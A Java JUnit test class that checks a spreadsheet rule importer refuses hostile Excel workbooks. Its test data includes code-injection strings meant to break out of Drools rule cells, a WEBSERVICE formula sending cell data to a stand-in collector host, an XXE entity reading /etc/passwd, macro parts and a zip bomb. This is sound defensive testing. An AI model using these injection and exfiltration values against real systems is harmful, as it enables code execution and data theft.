package com.wisebook.clients.dunning.rules;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import com.wisebook.clients.rulebook.Finding;
import com.wisebook.clients.rulebook.TableForTests;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.FormulaError;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.ss.util.CellReference;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbookType;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Workbooks that a manager should not, or an attacker would, hand in. None is compiled; each is refused with the
 * cell and the reason, all at once, and no code in it ever runs.
 */
class HostileWorkbookTest {

    private static final String PWNED = "wisebook.pwned";
    private static final String SHEET = "Relances";

    @AfterEach
    void noCodeInACellHasRun() {
        assertThat(System.getProperty(PWNED)).isNull();
    }

    @ParameterizedTest(name = "{0} = {1}")
    @CsvSource(delimiter = '\u00a6', quoteCharacter = '~', value = {
        // the four attacks that work on Drools itself, and their relatives
        "M13 ¦ \"); System.setProperty(\"wisebook.pwned\",\"2\"); $item.setStepLabel(\" ¦ rulebook.cell.alphabet",
        "M13 ¦ a\"); System.setProperty(\"wisebook.pwned\",\"2\"); // ¦ rulebook.cell.alphabet",
        "M13 ¦ back\\slash ¦ rulebook.cell.alphabet",
        "M13 ¦ $1 and $param ¦ rulebook.cell.alphabet",
        "M13 ¦ two ; statements ¦ rulebook.cell.alphabet",
        "P13 ¦ 0); System.setProperty(\"wisebook.pwned\",\"3\"); // ¦ rulebook.cell.not-number",
        "Q13 ¦ 1 000,00 ¦ rulebook.cell.not-number",
        "C13 ¦ 0 || System.setProperty(\"wisebook.pwned\",\"4\") == null ¦ rulebook.cell.not-number",
        "B13 ¦ \" || System.setProperty(\"wisebook.pwned\",\"5\") == null || segment == \" ¦ rulebook.cell.not-in-list",
        "B13 ¦ Grands comptes, Inconnus ¦ rulebook.cell.not-in-list",
        "O13 ¦ Modèle inventé ¦ rulebook.cell.not-in-list",
        "N13 ¦ Pigeon ¦ rulebook.cell.not-in-list"})
    void aCellThatIsNotWhatItsColumnHolds(String cell, String text, String reason) throws Exception {
        assertRefused(with(cell, c -> c.setCellValue(text)), cell, reason);
    }

    @Test
    void aFormulaIsRefusedWhateverItsValue() throws Exception {
        assertRefused(with("L14", c -> c.setCellFormula("1+1")), "L14", "rulebook.cell.formula");
        assertRefused(with("M14", c -> c.setCellFormula("WEBSERVICE(\"http://collector.example/\"&A1)")), "M14", "rulebook.cell.formula");
    }

    @Test
    void aCellWithAnErrorATruthValueOrADateIsRefused() throws Exception {
        assertRefused(with("L14", c -> c.setCellErrorValue(FormulaError.DIV0.getCode())), "L14", "rulebook.cell.error");
        assertRefused(with("T14", c -> c.setCellValue(true)), "T14", "rulebook.cell.boolean");
        assertRefused(with("P14", c -> format(c, 46000, "dd/mm/yyyy")), "P14", "rulebook.cell.date");
    }

    @Test
    void aNumberMeansWhatItShows() throws Exception {
        assertThat(value(with("Q14", c -> format(c, 1234.5, "# ##0.00 \"€\"")), "minimum")).isEqualTo("1234.50");
        assertThat(value(with("U14", c -> format(c, 0.07, "0 %")), "creditShare")).isEqualTo("7.00");
        assertThat(value(with("U14", c -> format(c, 7, "0")), "creditShare")).isEqualTo("7.00");
        assertRefused(with("Q14", c -> format(c, 0.5, "0 %")), "Q14", "rulebook.cell.percent");
    }

    @ParameterizedTest(name = "{0} = {1}: {2}")
    @CsvSource({"P14,2.5,rulebook.cell.not-whole", "P14,0,rulebook.cell.out-of-range", "L14,21,rulebook.cell.out-of-range",
        "Q14,10.001,rulebook.cell.decimals", "Q14,-1,rulebook.cell.out-of-range", "U14,101,rulebook.cell.out-of-range",
        "Q14,1E300,rulebook.cell.out-of-range", "M14,12,rulebook.cell.not-text"})
    void aNumberOutsideItsBounds(String cell, double number, String reason) throws Exception {
        assertRefused(with(cell, c -> c.setCellValue(number)), cell, reason);
    }

    @Test
    void aForgottenSegmentIsNotEverySegment() throws Exception {
        assertRefused(with("B14", Cell::setBlank), "B14", "rulebook.cell.required");
    }

    @ParameterizedTest
    @CsvSource({"L12,Niveau", "B12,Segments", "L11,System.exit(0);", "B9,ACTION", "C5,java.lang.Runtime", "B8,RuleTable other",
        "V11,System.exit(0);", "B7,Functions"})
    void aHeadingOrTheProgramAboveItMayNotChange(String cell, String text) throws Exception {
        assertRefused(with(cell, c -> c.setCellValue(text)), cell, "rulebook.cell.header");
    }

    @Test
    void mergedCellsAndCellsBesideTheTableAreRefused() throws Exception {
        assertRefused(change(sheet -> sheet.addMergedRegion(CellRangeAddress.valueOf("B13:B15"))), "B13", "rulebook.cell.merged");
        assertRefused(with("W20", c -> c.setCellValue("RuleTable x")), "W20", "rulebook.cell.outside");
    }

    @Test
    void aSecondRuleTableBelowTheFirstIsJustAWrongRow() throws Exception {
        byte[] workbook = change(sheet -> cell(sheet, "B90").setCellValue("RuleTable evil"));
        assertThat(findings(workbook)).extracting(Finding::cell, Finding::key)
                .contains(tuple("B90", "rulebook.cell.not-in-list"));
    }

    @Test
    void allFaultsAreReportedAtOnceInBothLanguages() throws Exception {
        byte[] workbook = change(sheet -> {
            cell(sheet, "D14").setCellFormula("1+1");
            cell(sheet, "O20").setCellValue("Inconnu");
            cell(sheet, "Q30").setCellValue("douze");
        });
        List<Finding> findings = findings(workbook);
        assertThat(findings).extracting(Finding::cell).containsExactly("D14", "O20", "Q30");
        assertThat(findings.get(0).text(Locale.FRENCH))
                .isEqualTo("feuille Relances, cellule D14 : Une formule n’est pas admise (=1+1) ; saisissez la valeur.");
        assertThat(findings.get(2).text(Locale.ENGLISH))
                .isEqualTo("sheet Relances, cell Q30: \"douze\" is text; a number is expected.");
    }

    @Test
    void onlyAPlainXlsxIsOpened() throws Exception {
        ByteArrayOutputStream xls = new ByteArrayOutputStream();
        try (HSSFWorkbook workbook = new HSSFWorkbook()) {
            workbook.createSheet(SHEET).createRow(0).createCell(0).setCellValue("x");
            workbook.write(xls);
        }
        assertFileRefused(xls.toByteArray(), "rulebook.file.not-xlsx");
        assertFileRefused(new byte[0], "rulebook.file.not-xlsx");
        assertFileRefused("Segment;Jours".getBytes(StandardCharsets.UTF_8), "rulebook.file.not-xlsx");
        assertFileRefused(zip("word/document.xml", new byte[10]), "rulebook.file.not-xlsx");
        assertFileRefused(zip("xl/workbook.xml", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><workbook>&e;</workbook>".getBytes()),
                "rulebook.file.damaged");
        byte[] shipped = shipped();
        assertThat(findings(Arrays.copyOf(shipped, shipped.length / 2))).extracting(Finding::key)
                .containsAnyOf("rulebook.file.damaged", "rulebook.file.not-xlsx");
    }

    @Test
    void macrosLinksAndBombsAreNotOpened() throws Exception {
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(shipped()));
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            workbook.setWorkbookType(XSSFWorkbookType.XLSM);
            workbook.write(out);
            assertFileRefused(out.toByteArray(), "rulebook.file.macros");
        }
        assertFileRefused(zip("xl/vbaProject.bin", new byte[10]), "rulebook.file.macros");
        assertFileRefused(zip("xl/externalLinks/externalLink1.xml", new byte[10]), "rulebook.file.links");
        assertFileRefused(zip("xl/workbook.xml", new byte[64 << 20]), "rulebook.file.bomb");
        byte[] large = new byte[(1 << 20) + 1];
        new Random(1).nextBytes(large);
        assertFileRefused(large, "rulebook.file.too-large");
    }

    @Test
    void tooManyRowsAreRefusedWithTheirNumber() throws Exception {
        byte[] workbook = change(sheet -> {
            for (int r = 0; r < 6_000; r++) {
                sheet.createRow(100 + r).createCell(1).setCellValue("Standard");
            }
        });
        assertThat(findings(workbook)).extracting(Finding::cell, Finding::key)
                .containsExactly(tuple("", "rulebook.sheet.too-many-rows"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"Feuil1", "relances"})
    void theSheetKeepsItsName(String name) throws Exception {
        byte[] workbook = change(sheet -> sheet.getWorkbook().setSheetName(0, name));
        // Excel itself does not tell sheets apart by case.
        assertThat(findings(workbook)).extracting(Finding::key)
                .isEqualTo(name.equalsIgnoreCase(SHEET) ? List.of() : List.of("rulebook.file.no-sheet"));
    }

    private interface Change<T> {
        void on(T target) throws Exception;
    }

    private static void assertRefused(byte[] workbook, String cell, String reason) {
        List<Finding> findings = findings(workbook);
        assertThat(findings).extracting(Finding::sheet, Finding::cell, Finding::key).containsExactly(tuple(SHEET, cell, reason));
        assertThat(findings.get(0).text(Locale.ROOT)).contains(cell).doesNotContain("{0}", "{1}", "{2}");
    }

    private static void assertFileRefused(byte[] workbook, String reason) {
        assertThat(findings(workbook)).extracting(Finding::key).containsExactly(reason);
        assertThat(findings(workbook).get(0).text(Locale.ENGLISH)).isNotBlank();
    }

    private static List<Finding> findings(byte[] workbook) {
        return new TableForTests(RelanceColumns.definition(), workbook).findings();
    }

    /** The value of row 14 as it is read. */
    private static String value(byte[] workbook, String column) {
        TableForTests table = new TableForTests(RelanceColumns.definition(), workbook);
        assertThat(table.findings()).isEmpty();
        return table.rows().get(1).decimal(column).toPlainString();
    }

    private static byte[] with(String address, Change<Cell> change) throws Exception {
        return change(sheet -> change.on(cell(sheet, address)));
    }

    private static byte[] change(Change<Sheet> change) throws Exception {
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(shipped()));
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            change.on(workbook.getSheetAt(0));
            workbook.write(out);
            return out.toByteArray();
        }
    }

    private static Cell cell(Sheet sheet, String address) {
        CellReference at = new CellReference(address);
        Row row = sheet.getRow(at.getRow()) == null ? sheet.createRow(at.getRow()) : sheet.getRow(at.getRow());
        return row.getCell(at.getCol(), Row.MissingCellPolicy.CREATE_NULL_AS_BLANK);
    }

    private static void format(Cell cell, double value, String format) {
        CellStyle style = cell.getSheet().getWorkbook().createCellStyle();
        style.setDataFormat(cell.getSheet().getWorkbook().createDataFormat().getFormat(format));
        cell.setCellStyle(style);
        cell.setCellValue(value);
    }

    private static byte[] zip(String part, byte[] content) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry(part));
            zip.write(content);
        }
        return out.toByteArray();
    }

    private static byte[] shipped() throws Exception {
        return Files.readAllBytes(RelanceWorkbookGenerator.FILE);
    }
}
